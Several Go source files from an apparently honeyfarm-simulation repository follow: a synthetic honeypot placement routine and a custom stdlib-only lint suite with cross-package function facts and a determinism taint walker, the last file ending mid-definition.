		return "same-continent"
	case OtherContinent:
		return "other-continent"
	}
	return fmt.Sprintf("Region(%d)", uint8(g))
}

// Relation reports the geographic relation between client and honeypot
// locations.
func Relation(client, honeypot Location) Region {
	if client.Country == honeypot.Country {
		return SameCountry
	}
	if client.Continent == honeypot.Continent {
		return SameContinent
	}
	return OtherContinent
}
