package geo

import (
	"fmt"
	"math/rand"
)

// Deployment describes one honeypot's placement in the synthetic Internet.
type Deployment struct {
	ID      int    // honeypot index, 0-based
	Name    string // stable identifier, e.g. "hp-042"
	IP      uint32
	Country string
	ASN     uint32
}

// PlacementConfig controls honeyfarm placement.
type PlacementConfig struct {
	Seed       int64
	NumPots    int      // number of honeypots; the paper's farm has 221
	NumASes    int      // distinct networks; the paper's farm spans 65
	Countries  []string // ISO codes; defaults to HoneyfarmCountries (55)
	Registry   *Registry
	Residental bool // prefer residential ASes, as the paper's deployment did
}

// DefaultPlacement mirrors the paper's farm: 221 honeypots, 55 countries,
// 65 ASes, residential focus.
func DefaultPlacement(r *Registry, seed int64) []Deployment {
	d, err := Place(PlacementConfig{
		Seed:       seed,
		NumPots:    221,
		NumASes:    65,
		Registry:   r,
		Residental: true,
	})
	if err != nil {
		// The default configuration is statically valid; a failure here is
		// a programming error, not an input error.
		panic(err)
	}
	return d
}

// Place assigns honeypots to countries and ASes. Every listed country
// receives at least one honeypot; the surplus concentrates in the first
// few countries (the paper notes the US and Singapore host multiple
// honeypots while most countries host a single one). Exactly cfg.NumASes
// distinct ASes are used across the farm. All randomness derives from
// cfg.Seed; see PlaceRand to thread a caller-owned source.
func Place(cfg PlacementConfig) ([]Deployment, error) {
	return PlaceRand(rand.New(rand.NewSource(cfg.Seed)), cfg)
}

// PlaceRand is Place with an explicit, caller-seeded random source —
// the form the determinism contract prefers, since it makes the entire
// draw sequence visible at the call site. cfg.Seed is ignored.
func PlaceRand(rng *rand.Rand, cfg PlacementConfig) ([]Deployment, error) {
	if cfg.Registry == nil {
		return nil, fmt.Errorf("geo: placement requires a registry")
	}
	countries := cfg.Countries
	if countries == nil {
		countries = HoneyfarmCountries
	}
	if cfg.NumPots < len(countries) {
		return nil, fmt.Errorf("geo: %d honeypots cannot cover %d countries", cfg.NumPots, len(countries))
	}
	if cfg.NumASes < len(countries) {
		return nil, fmt.Errorf("geo: %d ASes cannot cover %d countries", cfg.NumASes, len(countries))
	}
	r := cfg.Registry

	// Per-country honeypot counts: one each, then concentrate the surplus
	// in the head of the list with geometrically decaying shares.
	counts := make([]int, len(countries))
	for i := range counts {
		counts[i] = 1
	}
	surplus := cfg.NumPots - len(countries)
	share := 0.45
	for i := 0; i < len(countries) && surplus > 0; i++ {
		n := int(float64(surplus)*share + 0.5)
		if i == len(countries)-1 || n > surplus {
			n = surplus
		}
		counts[i] += n
		surplus -= n
		share *= 0.82
	}
	// Anything left trickles one-by-one over the head.
	for i := 0; surplus > 0; i = (i + 1) % len(countries) {
		counts[i]++
		surplus--
	}

	// Per-country AS counts: one each, extra ASes go to countries with the
	// most honeypots.
	asCounts := make([]int, len(countries))
	for i := range asCounts {
		asCounts[i] = 1
	}
	extraAS := cfg.NumASes - len(countries)
	for i := 0; extraAS > 0; i = (i + 1) % len(countries) {
		if asCounts[i] < counts[i] { // no more ASes than honeypots per country
			asCounts[i]++
			extraAS--
		} else if allSaturated(asCounts, counts) {
			asCounts[0]++
			extraAS--
		}
	}

	var out []Deployment
	used := make(map[uint32]bool) // IPs already assigned
	for ci, code := range countries {
		idx, ok := r.byCode[code]
		if !ok {
			return nil, fmt.Errorf("geo: unknown country %q", code)
		}
		pool := r.asesByCountry[idx]
		if len(pool) == 0 {
			return nil, fmt.Errorf("geo: no ASes allocated in %s", code)
		}
		// Pick asCounts[ci] distinct ASes, preferring residential ones.
		chosen := chooseASes(rng, r, pool, asCounts[ci], cfg.Residental)
		for j := 0; j < counts[ci]; j++ {
			as := r.ases[chosen[j%len(chosen)]]
			ip, ok := pickUnusedIP(rng, as, used)
			if !ok {
				return nil, fmt.Errorf("geo: AS%d in %s has no free addresses for honeypot placement", as.ASN, code)
			}
			used[ip] = true
			id := len(out)
			out = append(out, Deployment{
				ID:      id,
				Name:    fmt.Sprintf("hp-%03d", id),
				IP:      ip,
				Country: code,
				ASN:     as.ASN,
			})
		}
	}
	return out, nil
}

// pickUnusedIP draws an address of as not yet in used: rejection
// sampling with an iteration cap (the expected try count is ~1 since
// farms are far smaller than prefixes), then a deterministic linear
// probe so a near-saturated AS still terminates.
func pickUnusedIP(rng *rand.Rand, as AS, used map[uint32]bool) (uint32, bool) {
	for tries := 0; tries < 64; tries++ {
		ip := as.Base + uint32(rng.Intn(int(as.Size)))
		if !used[ip] {
			return ip, true
		}
	}
	for off := uint32(0); off < as.Size; off++ {
		if ip := as.Base + off; !used[ip] {
			return ip, true
		}
	}
	return 0, false
}

func allSaturated(asCounts, counts []int) bool {
	for i := range asCounts {
		if asCounts[i] < counts[i] {
			return false
		}
	}
	return true
}

func chooseASes(rng *rand.Rand, r *Registry, pool []int, n int, preferResidential bool) []int {
	if n > len(pool) {
		n = len(pool)
	}
	perm := rng.Perm(len(pool))
	if preferResidential {
		// Stable partition: residential ASes first, keeping the shuffle
		// order within each class.
		res, other := make([]int, 0, len(perm)), make([]int, 0, len(perm))
		for _, p := range perm {
			if r.ases[pool[p]].Type == Residential {
				res = append(res, p)
			} else {
				other = append(other, p)
			}
		}
		perm = append(res, other...)
	}
	out := make([]int, n)
	for i := 0; i < n; i++ {
		out[i] = pool[perm[i]]
	}
	return out
}
