// Package lint is a stdlib-only static-analysis suite enforcing this
// repository's correctness contracts: the simulation path must be
// bit-for-bit deterministic (no global math/rand state, no wall-clock
// reads), the concurrent wire path must not leak goroutines or discard
// errors silently, lock-bearing values must not be copied, and the SSH
// wire codec must stay marshal/unmarshal symmetric.
//
// The framework is built on go/ast, go/parser and go/types alone. The
// driver loads packages through `go list -export`, type-checks them from
// source, runs every registered analyzer, and aggregates findings with
// positions. A finding can be suppressed with a directive comment on the
// offending line or the line above:
//
//	//lint:ignore <rule> <reason>
//
// The reason is mandatory; a bare directive is itself reported. The rule
// catalog lives in DESIGN.md ("Correctness tooling").
package lint

import (
	"fmt"
	"go/ast"
	"go/token"
	"sort"
	"strings"
)

// Finding is one rule violation at a source position.
type Finding struct {
	Rule    string         `json:"rule"`
	Pos     token.Position `json:"pos"`
	Message string         `json:"message"`
}

func (f Finding) String() string {
	return fmt.Sprintf("%s: [%s] %s", f.Pos, f.Rule, f.Message)
}

// Analyzer is one named check run over every loaded package.
type Analyzer struct {
	Name string
	Doc  string
	Run  func(*Pass)
}

// Pass carries one (analyzer, package) unit of work. Analyzers report
// through Reportf, which applies suppression directives before recording
// the finding.
type Pass struct {
	Analyzer *Analyzer
	Pkg      *Package

	ignores  map[string]map[int][]string // file -> line -> suppressed rules
	findings *[]Finding
}

// Reportf records a finding at pos unless a suppression directive covers
// it.
func (p *Pass) Reportf(pos token.Pos, format string, args ...any) {
	position := p.Pkg.Fset.Position(pos)
	if p.suppressed(position) {
		return
	}
	*p.findings = append(*p.findings, Finding{
		Rule:    p.Analyzer.Name,
		Pos:     position,
		Message: fmt.Sprintf(format, args...),
	})
}

// suppressed reports whether an ignore directive for this rule sits on
// the finding's line or the line directly above it.
func (p *Pass) suppressed(pos token.Position) bool {
	lines := p.ignores[pos.Filename]
	for _, line := range []int{pos.Line, pos.Line - 1} {
		for _, rule := range lines[line] {
			if rule == p.Analyzer.Name || rule == "*" {
				return true
			}
		}
	}
	return false
}

// ignoreDirectives scans a package's comments for lint:ignore directives
// and reports malformed ones (missing rule or reason) as findings of the
// pseudo-rule "directive".
func ignoreDirectives(pkg *Package, findings *[]Finding) map[string]map[int][]string {
	out := map[string]map[int][]string{}
	for _, file := range pkg.Files {
		for _, cg := range file.Comments {
			for _, c := range cg.List {
				text := strings.TrimPrefix(c.Text, "//")
				if !strings.HasPrefix(text, "lint:ignore") {
					continue
				}
				pos := pkg.Fset.Position(c.Pos())
				fields := strings.Fields(strings.TrimPrefix(text, "lint:ignore"))
				if len(fields) < 2 {
					*findings = append(*findings, Finding{
						Rule: "directive", Pos: pos,
						Message: "malformed //lint:ignore directive: want \"//lint:ignore <rule> <reason>\"",
					})
					continue
				}
				byLine := out[pos.Filename]
				if byLine == nil {
					byLine = map[int][]string{}
					out[pos.Filename] = byLine
				}
				end := pkg.Fset.Position(c.End())
				byLine[end.Line] = append(byLine[end.Line], fields[0])
			}
		}
	}
	return out
}

// Run executes the analyzers over the packages and returns the combined
// findings sorted by position.
func Run(pkgs []*Package, analyzers []*Analyzer) []Finding {
	var findings []Finding
	for _, pkg := range pkgs {
		ignores := ignoreDirectives(pkg, &findings)
		for _, a := range analyzers {
			pass := &Pass{Analyzer: a, Pkg: pkg, ignores: ignores, findings: &findings}
			a.Run(pass)
		}
	}
	sort.Slice(findings, func(i, j int) bool {
		a, b := findings[i], findings[j]
		if a.Pos.Filename != b.Pos.Filename {
			return a.Pos.Filename < b.Pos.Filename
		}
		if a.Pos.Line != b.Pos.Line {
			return a.Pos.Line < b.Pos.Line
		}
		return a.Rule < b.Rule
	})
	return findings
}

// All returns the full analyzer suite in catalog order.
func All() []*Analyzer {
	return []*Analyzer{
		Nondeterminism,
		GoroutineHygiene,
		ErrorDiscard,
		MutexByValue,
		WireSymmetry,
		BoundedLoop,
	}
}

// ByName returns the subset of All whose names appear in the
// comma-separated list; unknown names error.
func ByName(list string) ([]*Analyzer, error) {
	if list == "" {
		return All(), nil
	}
	byName := map[string]*Analyzer{}
	for _, a := range All() {
		byName[a.Name] = a
	}
	var out []*Analyzer
	for _, name := range strings.Split(list, ",") {
		name = strings.TrimSpace(name)
		a, ok := byName[name]
		if !ok {
			return nil, fmt.Errorf("lint: unknown rule %q", name)
		}
		out = append(out, a)
	}
	return out, nil
}

// inspect walks every file of the pass's package, calling fn for each
// node; fn returning false prunes the subtree.
func inspect(p *Pass, fn func(ast.Node) bool) {
	for _, f := range p.Pkg.Files {
		ast.Inspect(f, fn)
	}
}

// pathHasSuffix reports whether the package import path equals suffix or
// ends with "/"+suffix — the matching used for the restricted-package
// sets, so fixture packages can opt in under synthetic paths.
func pathHasSuffix(path, suffix string) bool {
	return path == suffix || strings.HasSuffix(path, "/"+suffix)
}
