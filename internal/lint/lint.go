// Package lint is a stdlib-only static-analysis suite enforcing this
// repository's correctness contracts: the simulation path must be
// bit-for-bit deterministic (no global math/rand state, no wall-clock
// reads), the concurrent wire path must not leak goroutines or discard
// errors silently, lock-bearing values must not be copied, the SSH
// wire codec must stay marshal/unmarshal symmetric — and, since the
// cross-package engine landed, the durability contracts that live
// *between* packages: no nondeterministic value may flow into a WAL
// frame, snapshot or report writer (determinism-taint), artifact files
// are written only through internal/atomicio (atomicio-bypass), WAL
// syncs and snapshot seals are count-based, never timer-based
// (timer-commit), published snapshots are immutable (snapshot-mutation),
// and no mutex is held across fsync, network I/O or channel operations
// (lock-across-blocking).
//
// The framework is built on go/ast, go/parser and go/types alone. The
// driver loads packages through `go list -export`, type-checks them from
// source, computes per-package function facts propagated along the
// import graph (see facts.go), runs every registered analyzer, and
// aggregates findings with positions. Packages are analyzed in parallel
// with deterministic finding order, and results are cached on disk
// keyed by source content + analyzer version + dependency facts (see
// engine.go). A finding can be suppressed with a directive comment on
// the offending line or the line above:
//
//	//lint:ignore <rule>[,<rule>...] <reason>
//
// The reason is mandatory; a bare directive is itself reported, as is a
// stale directive naming a rule that does not fire on that line and a
// directive naming a rule that does not exist. Files carrying the
// standard "Code generated ... DO NOT EDIT." marker are skipped. The
// rule catalog lives in DESIGN.md ("Correctness tooling").
package lint

import (
	"fmt"
	"go/ast"
	"go/token"
	"sort"
	"strings"
)

// Finding is one rule violation at a source position.
type Finding struct {
	Rule    string         `json:"rule"`
	Pos     token.Position `json:"pos"`
	Message string         `json:"message"`
}

func (f Finding) String() string {
	return fmt.Sprintf("%s: [%s] %s", f.Pos, f.Rule, f.Message)
}

// Analyzer is one named check run over every loaded package.
type Analyzer struct {
	Name string
	Doc  string
	Run  func(*Pass)
}

// Pass carries one (analyzer, package) unit of work. Analyzers report
// through Reportf, which applies suppression directives before recording
// the finding, and consult Facts for cross-package function properties.
type Pass struct {
	Analyzer *Analyzer
	Pkg      *Package
	// Facts is the merged fact view: the module dependencies' facts plus
	// this package's own (see facts.go).
	Facts *Facts

	directives *directiveSet
	findings   *[]Finding
}

// Reportf records a finding at pos unless a suppression directive covers
// it.
func (p *Pass) Reportf(pos token.Pos, format string, args ...any) {
	position := p.Pkg.Fset.Position(pos)
	if p.directives.suppress(p.Analyzer.Name, position) {
		return
	}
	*p.findings = append(*p.findings, Finding{
		Rule:    p.Analyzer.Name,
		Pos:     position,
		Message: fmt.Sprintf(format, args...),
	})
}

// directive is one parsed //lint:ignore comment.
type directive struct {
	rules []string // rule names (or "*"); parsed from the comma list
	pos   token.Position
	line  int             // effective line: the comment's end line
	used  map[string]bool // rule name (as written) -> consumed a finding
}

// directiveSet indexes a package's directives by file and line.
type directiveSet struct {
	byFile map[string]map[int][]*directive
	all    []*directive // in scan order (file, then position)
}

// suppress reports whether a directive covers a finding of rule at pos,
// marking the matching directive as used. Same-line directives take
// precedence over line-above directives; within a line, the first
// matching directive wins.
func (d *directiveSet) suppress(rule string, pos token.Position) bool {
	lines := d.byFile[pos.Filename]
	for _, line := range []int{pos.Line, pos.Line - 1} {
		for _, dir := range lines[line] {
			for _, r := range dir.rules {
				if r == rule || r == "*" {
					dir.used[r] = true
					return true
				}
			}
		}
	}
	return false
}

// scanDirectives parses a package's lint:ignore comments, reporting
// malformed ones (missing rule or reason) as findings of the
// pseudo-rule "directive". Generated files are skipped entirely.
func scanDirectives(pkg *Package, findings *[]Finding) *directiveSet {
	ds := &directiveSet{byFile: map[string]map[int][]*directive{}}
	for _, file := range pkg.Files {
		if pkg.Generated[file] {
			continue
		}
		for _, cg := range file.Comments {
			for _, c := range cg.List {
				text := strings.TrimPrefix(c.Text, "//")
				if !strings.HasPrefix(text, "lint:ignore") {
					continue
				}
				pos := pkg.Fset.Position(c.Pos())
				fields := strings.Fields(strings.TrimPrefix(text, "lint:ignore"))
				if len(fields) < 2 {
					*findings = append(*findings, Finding{
						Rule: "directive", Pos: pos,
						Message: "malformed //lint:ignore directive: want \"//lint:ignore <rule>[,<rule>] <reason>\"",
					})
					continue
				}
				dir := &directive{
					pos:  pos,
					line: pkg.Fset.Position(c.End()).Line,
					used: map[string]bool{},
				}
				for _, r := range strings.Split(fields[0], ",") {
					if r = strings.TrimSpace(r); r != "" {
						dir.rules = append(dir.rules, r)
					}
				}
				byLine := ds.byFile[pos.Filename]
				if byLine == nil {
					byLine = map[int][]*directive{}
					ds.byFile[pos.Filename] = byLine
				}
				byLine[dir.line] = append(byLine[dir.line], dir)
				ds.all = append(ds.all, dir)
			}
		}
	}
	return ds
}

// reportStale walks the directives after every analyzer ran and reports
// the inert ones: a directive naming a rule that does not exist, and a
// directive whose rule exists and was run but suppressed nothing on its
// lines. Both are findings of the pseudo-rule "directive" — a stale
// suppression is a silent hole in the contract it claims to cover.
func reportStale(ds *directiveSet, ran []*Analyzer, findings *[]Finding) {
	catalog := map[string]bool{}
	for _, a := range All() {
		catalog[a.Name] = true
	}
	active := map[string]bool{}
	for _, a := range ran {
		active[a.Name] = true
	}
	for _, dir := range ds.all {
		for _, r := range dir.rules {
			switch {
			case r == "*":
				if !dir.used["*"] {
					*findings = append(*findings, Finding{
						Rule: "directive", Pos: dir.pos,
						Message: "stale suppression: the wildcard directive suppresses nothing on this line; delete it",
					})
				}
			case !catalog[r]:
				*findings = append(*findings, Finding{
					Rule: "directive", Pos: dir.pos,
					Message: fmt.Sprintf("directive names unknown rule %q; the suppression is inert (see cmd/lint -list for the catalog)", r),
				})
			case active[r] && !dir.used[r]:
				*findings = append(*findings, Finding{
					Rule: "directive", Pos: dir.pos,
					Message: fmt.Sprintf("stale suppression: rule %s does not fire on this line; delete the directive", r),
				})
			}
		}
	}
}

// runPackage analyzes one package: directives are scanned (malformed
// ones reported), every analyzer runs with the fact view, and stale
// directives are reported last. Findings are returned unsorted; callers
// sort the cross-package aggregate.
func runPackage(pkg *Package, analyzers []*Analyzer, facts *Facts) []Finding {
	var findings []Finding
	ds := scanDirectives(pkg, &findings)
	for _, a := range analyzers {
		pass := &Pass{Analyzer: a, Pkg: pkg, Facts: facts, directives: ds, findings: &findings}
		a.Run(pass)
	}
	reportStale(ds, analyzers, &findings)
	return findings
}

// sortFindings orders findings by file, line, column, rule, message —
// the deterministic order every entry point emits.
func sortFindings(findings []Finding) {
	sort.Slice(findings, func(i, j int) bool {
		a, b := findings[i], findings[j]
		if a.Pos.Filename != b.Pos.Filename {
			return a.Pos.Filename < b.Pos.Filename
		}
		if a.Pos.Line != b.Pos.Line {
			return a.Pos.Line < b.Pos.Line
		}
		if a.Pos.Column != b.Pos.Column {
			return a.Pos.Column < b.Pos.Column
		}
		if a.Rule != b.Rule {
			return a.Rule < b.Rule
		}
		return a.Message < b.Message
	})
}

// Run executes the analyzers over the packages sequentially and returns
// the combined findings sorted by position. Packages must be ordered
// dependencies-first (go list -deps order, which Loader.Load preserves)
// so cross-package facts are available when a dependent is analyzed;
// self-contained fixture packages can be passed alone.
func Run(pkgs []*Package, analyzers []*Analyzer) []Finding {
	facts := NewFacts()
	var findings []Finding
	for _, pkg := range pkgs {
		facts.Merge(ComputeFacts(pkg, facts))
		findings = append(findings, runPackage(pkg, analyzers, facts)...)
	}
	sortFindings(findings)
	return findings
}

// All returns the full analyzer suite in catalog order.
func All() []*Analyzer {
	return []*Analyzer{
		Nondeterminism,
		GoroutineHygiene,
		ErrorDiscard,
		MutexByValue,
		WireSymmetry,
		BoundedLoop,
		DeterminismTaint,
		AtomicioBypass,
		TimerCommit,
		SnapshotMutation,
		LockAcrossBlocking,
	}
}

// ByName returns the subset of All whose names appear in the
// comma-separated list; unknown names error.
func ByName(list string) ([]*Analyzer, error) {
	if list == "" {
		return All(), nil
	}
	byName := map[string]*Analyzer{}
	for _, a := range All() {
		byName[a.Name] = a
	}
	var out []*Analyzer
	for _, name := range strings.Split(list, ",") {
		name = strings.TrimSpace(name)
		a, ok := byName[name]
		if !ok {
			return nil, fmt.Errorf("lint: unknown rule %q", name)
		}
		out = append(out, a)
	}
	return out, nil
}

// inspect walks every non-generated file of the pass's package, calling
// fn for each node; fn returning false prunes the subtree.
func inspect(p *Pass, fn func(ast.Node) bool) {
	for _, f := range p.Pkg.Files {
		if p.Pkg.Generated[f] {
			continue
		}
		ast.Inspect(f, fn)
	}
}

// pathHasSuffix reports whether the package import path equals suffix or
// ends with "/"+suffix — the matching used for the restricted-package
// sets, so fixture packages can opt in under synthetic paths.
func pathHasSuffix(path, suffix string) bool {
	return path == suffix || strings.HasSuffix(path, "/"+suffix)
}
