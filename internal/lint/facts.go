package lint

import (
	"go/ast"
	"go/types"
	"regexp"
	"sort"
	"strings"
)

// This file implements the cross-package half of the analysis engine: a
// per-package fact store propagated along the import graph. A fact is a
// property of a declared function that rules three packages away can
// ask about without re-walking its body — "does calling this reach the
// wall clock?", "does it end in an fsync?", "does it publish a snapshot
// through an atomic pointer?". Facts are computed bottom-up (go list
// -deps emits dependencies before dependents), serialized into the
// result cache, and folded into dependents' cache keys, so a fact
// change deep in internal/wal correctly invalidates every package whose
// findings could depend on it.

// FuncFacts are the propagated properties of one declared function.
// Each field is a provenance chain ("via"): empty means the property
// does not hold; non-empty names the call path that established it,
// e.g. "(*wal.Log).AppendTagged → (*os.File).Sync".
type FuncFacts struct {
	// Nondet: calling this function can read a nondeterminism source
	// (wall clock, global math/rand state).
	Nondet string `json:"nondet,omitempty"`
	// Durable: calling this function can perform a durable write (file
	// create/write/rename/sync) — the WAL frames, snapshots-on-disk and
	// report artifacts the determinism contract protects.
	Durable string `json:"durable,omitempty"`
	// Fsync: calling this function can block on an fsync — the subset of
	// Durable that lock-across-blocking cares about.
	Fsync string `json:"fsync,omitempty"`
	// Publishes: calling this function can publish a value through
	// atomic.Pointer.Store — sealing a snapshot, in this codebase.
	Publishes string `json:"publishes,omitempty"`
}

func (f FuncFacts) any() bool {
	return f.Nondet != "" || f.Durable != "" || f.Fsync != "" || f.Publishes != ""
}

// absorb folds the callee's facts into f with the callee's short name
// prepended to the provenance chain. Already-established chains are
// kept (the first deterministic walk order wins), so provenance is
// stable across runs.
func (f *FuncFacts) absorb(calleeKey string, cf FuncFacts) bool {
	changed := false
	via := func(chain string) string {
		if chain == "" || chain == calleeKey {
			return shortKey(calleeKey)
		}
		return shortKey(calleeKey) + " → " + chain
	}
	if f.Nondet == "" && cf.Nondet != "" {
		f.Nondet, changed = via(cf.Nondet), true
	}
	if f.Durable == "" && cf.Durable != "" {
		f.Durable, changed = via(cf.Durable), true
	}
	if f.Fsync == "" && cf.Fsync != "" {
		f.Fsync, changed = via(cf.Fsync), true
	}
	if f.Publishes == "" && cf.Publishes != "" {
		f.Publishes, changed = via(cf.Publishes), true
	}
	return changed
}

// PackageFacts maps a package's declared functions (keyed by
// funcKey) to their facts. Only functions with at least one non-empty
// fact are recorded, keeping cache entries small.
type PackageFacts map[string]FuncFacts

// Facts is the merged fact view an analysis pass sees: every module
// dependency's PackageFacts plus the package under analysis.
type Facts struct {
	m map[string]FuncFacts
}

// NewFacts returns an empty fact store.
func NewFacts() *Facts { return &Facts{m: map[string]FuncFacts{}} }

// Merge folds one package's facts into the store.
func (f *Facts) Merge(pf PackageFacts) {
	for k, v := range pf {
		f.m[k] = v
	}
}

// Of returns the facts of a resolved function object (looking through
// generic instantiation), falling back to the intrinsic source table
// for standard-library functions.
func (f *Facts) Of(fn *types.Func) FuncFacts {
	if fn == nil {
		return FuncFacts{}
	}
	key := funcKey(fn)
	if ff, ok := f.m[key]; ok {
		return ff
	}
	return sourceFacts(key)
}

// Lookup returns the stored facts for a function key.
func (f *Facts) Lookup(key string) (FuncFacts, bool) {
	ff, ok := f.m[key]
	return ff, ok
}

// funcKey is the stable cross-package identity of a function object:
// the origin (uninstantiated) types.Func full name, e.g.
// "honeyfarm/internal/wal.Open" or "(*honeyfarm/internal/wal.Log).Sync".
func funcKey(fn *types.Func) string {
	return fn.Origin().FullName()
}

// pathSegments strips directory components from package paths inside a
// function key, turning "(*honeyfarm/internal/wal.Log).AppendTagged"
// into "(*wal.Log).AppendTagged" for human-readable provenance chains.
var pathSegments = regexp.MustCompile(`([A-Za-z0-9_.~-]+/)+`)

func shortKey(key string) string {
	return pathSegments.ReplaceAllString(key, "")
}

// sourceFacts classifies standard-library (and contract-interface)
// functions that seed fact propagation. Keys are origin full names.
func sourceFacts(key string) FuncFacts {
	switch key {
	case "time.Now", "time.Since", "time.Until":
		return FuncFacts{Nondet: key}
	case "os.Create", "os.Rename", "os.WriteFile",
		"(*os.File).Write", "(*os.File).WriteString", "(*os.File).WriteAt",
		"(*os.File).Truncate":
		return FuncFacts{Durable: key}
	case "(*os.File).Sync":
		return FuncFacts{Durable: key, Fsync: key}
	}
	if name, ok := strings.CutPrefix(key, "math/rand."); ok && !allowedRandNames[name] {
		return FuncFacts{Nondet: key}
	}
	if name, ok := strings.CutPrefix(key, "math/rand/v2."); ok && !allowedRandV2Names[name] {
		return FuncFacts{Nondet: key}
	}
	if strings.HasPrefix(key, "(*sync/atomic.Pointer[") && strings.HasSuffix(key, "]).Store") {
		return FuncFacts{Publishes: key}
	}
	// The collector's durability contract is an interface: anything
	// calling a DurableSink persists records (wal.Log is the
	// implementation, but callers only see the interface).
	if strings.HasSuffix(key, "/store.DurableSink).Append") {
		return FuncFacts{Durable: key, Fsync: key}
	}
	// The fault-injectable filesystem abstraction: its write-path methods
	// carry the same facts as their os counterparts, so durability and
	// fsync reach propagate through code that writes via iofault.FS
	// exactly as it did when it called *os.File directly. OpenFile is
	// deliberately unseeded — it is also the read path, and tainting it
	// would mark pure readers (the WAL iterator, the query follower) as
	// durable writers.
	switch {
	case strings.HasSuffix(key, "/iofault.File).Sync"):
		return FuncFacts{Durable: key, Fsync: key}
	case strings.HasSuffix(key, "/iofault.File).Write"),
		strings.HasSuffix(key, "/iofault.File).Truncate"),
		strings.HasSuffix(key, "/iofault.FS).Rename"):
		return FuncFacts{Durable: key}
	}
	return FuncFacts{}
}

// calleeFunc resolves a call's function expression to the declared or
// imported *types.Func, looking through generic instantiations and
// parenthesization. Nil for builtins, function-typed values and
// conversions.
func calleeFunc(info *types.Info, fun ast.Expr) *types.Func {
	switch e := fun.(type) {
	case *ast.ParenExpr:
		return calleeFunc(info, e.X)
	case *ast.IndexExpr:
		return calleeFunc(info, e.X)
	case *ast.IndexListExpr:
		return calleeFunc(info, e.X)
	case *ast.Ident:
		fn, _ := info.Uses[e].(*types.Func)
		return fn
	case *ast.SelectorExpr:
		if sel := info.Selections[e]; sel != nil {
			fn, _ := sel.Obj().(*types.Func)
			return fn
		}
		fn, _ := info.Uses[e.Sel].(*types.Func)
		return fn
	}
	return nil
}

// ComputeFacts derives one package's facts: each declared function is
// seeded with the intrinsic sources and imported-package facts its body
// reaches directly, then intra-package calls are propagated to a
// fixpoint. global carries the already-computed facts of the package's
// module dependencies; iteration orders are sorted so the provenance
// chains (and therefore cached findings) are deterministic.
func ComputeFacts(pkg *Package, global *Facts) PackageFacts {
	type fnState struct {
		facts   FuncFacts
		callees []string // intra-package callee keys, sorted, deduped
	}
	fns := map[string]*fnState{}
	ownKeys := map[string]bool{}
	var order []string

	for _, file := range pkg.Files {
		for _, decl := range file.Decls {
			fd, ok := decl.(*ast.FuncDecl)
			if !ok || fd.Body == nil {
				continue
			}
			obj, ok := pkg.Info.Defs[fd.Name].(*types.Func)
			if !ok {
				continue
			}
			key := funcKey(obj)
			fns[key] = &fnState{}
			ownKeys[key] = true
			order = append(order, key)
		}
	}
	sort.Strings(order)

	// Seed pass: direct sources and cross-package facts.
	for _, file := range pkg.Files {
		for _, decl := range file.Decls {
			fd, ok := decl.(*ast.FuncDecl)
			if !ok || fd.Body == nil {
				continue
			}
			obj, ok := pkg.Info.Defs[fd.Name].(*types.Func)
			if !ok {
				continue
			}
			st := fns[funcKey(obj)]
			callees := map[string]bool{}
			ast.Inspect(fd.Body, func(n ast.Node) bool {
				call, ok := n.(*ast.CallExpr)
				if !ok {
					return true
				}
				callee := calleeFunc(pkg.Info, call.Fun)
				if callee == nil {
					return true
				}
				ck := funcKey(callee)
				if ownKeys[ck] {
					callees[ck] = true
					return true
				}
				if ff, ok := global.Lookup(ck); ok {
					st.facts.absorb(ck, ff)
					return true
				}
				if src := sourceFacts(ck); src.any() {
					st.facts.absorb(ck, src)
				}
				return true
			})
			for ck := range callees {
				st.callees = append(st.callees, ck)
			}
			sort.Strings(st.callees)
		}
	}

	// Intra-package fixpoint over the sorted call graph.
	for changed := true; changed; {
		changed = false
		for _, key := range order {
			st := fns[key]
			for _, ck := range st.callees {
				if st.facts.absorb(ck, fns[ck].facts) {
					changed = true
				}
			}
		}
	}

	out := PackageFacts{}
	for _, key := range order {
		if st := fns[key]; st.facts.any() {
			out[key] = st.facts
		}
	}
	return out
}
