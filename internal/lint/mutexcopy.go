package lint

import (
	"go/ast"
)

// MutexByValue flags copies of lock-bearing values: value receivers and
// value parameters/results whose type transitively contains a sync
// primitive, assignments that copy such a value from an existing
// variable, and range clauses that copy them out of containers.
// Composite literals are permitted — constructing a fresh value is not a
// copy of a used lock.
var MutexByValue = &Analyzer{
	Name: "mutex-by-value",
	Doc:  "locks must not be copied through value receivers, params, or struct copies",
	Run: func(p *Pass) {
		info := p.Pkg.Info
		lockExpr := func(e ast.Expr) bool {
			switch e.(type) {
			case *ast.Ident, *ast.SelectorExpr, *ast.StarExpr, *ast.IndexExpr:
			default:
				return false // literals, calls, &x, conversions: not a lock copy
			}
			t := info.TypeOf(e)
			return t != nil && containsLock(t)
		}
		checkFieldList := func(fl *ast.FieldList, what string) {
			if fl == nil {
				return
			}
			for _, field := range fl.List {
				t, ok := info.Types[field.Type]
				if !ok || t.Type == nil {
					continue
				}
				if containsLock(t.Type) {
					p.Reportf(field.Pos(), "%s passes a lock-bearing value by value; use a pointer", what)
				}
			}
		}
		inspect(p, func(n ast.Node) bool {
			switch st := n.(type) {
			case *ast.FuncDecl:
				checkFieldList(st.Recv, "receiver")
				checkFieldList(st.Type.Params, "parameter")
				checkFieldList(st.Type.Results, "result")
			case *ast.FuncLit:
				checkFieldList(st.Type.Params, "parameter")
				checkFieldList(st.Type.Results, "result")
			case *ast.AssignStmt:
				for _, rhs := range st.Rhs {
					if lockExpr(rhs) {
						p.Reportf(rhs.Pos(), "assignment copies a lock-bearing value; take a pointer instead")
					}
				}
			case *ast.ValueSpec:
				for _, v := range st.Values {
					if lockExpr(v) {
						p.Reportf(v.Pos(), "declaration copies a lock-bearing value; take a pointer instead")
					}
				}
			case *ast.RangeStmt:
				if st.Value != nil {
					if t := info.TypeOf(st.Value); t != nil && containsLock(t) {
						p.Reportf(st.Value.Pos(), "range clause copies lock-bearing elements; iterate by index or store pointers")
					}
				}
			}
			return true
		})
	},
}
