package lint

import (
	"go/ast"
	"go/token"
	"go/types"
)

// This file is the lightweight intra-function dataflow walk the
// determinism-taint rule runs over go/types info. It is a single
// forward pass in source order: local objects become tainted when a
// nondeterminism source flows into them (a call whose callee carries a
// Nondet fact, or a range over a map — iteration order), taint
// propagates through assignments and expressions, and a tainted value
// reaching a sink (an argument to a callee with a Durable or Publishes
// fact) is reported. The pass is deliberately flow-insensitive across
// loop back-edges and branch joins — taint acquired anywhere in a
// branch persists afterwards — which over-approximates in the safe
// direction for a contract checker.

// taintWalker tracks tainted local objects through one function body.
type taintWalker struct {
	p       *Pass
	tainted map[types.Object]string // object -> source description
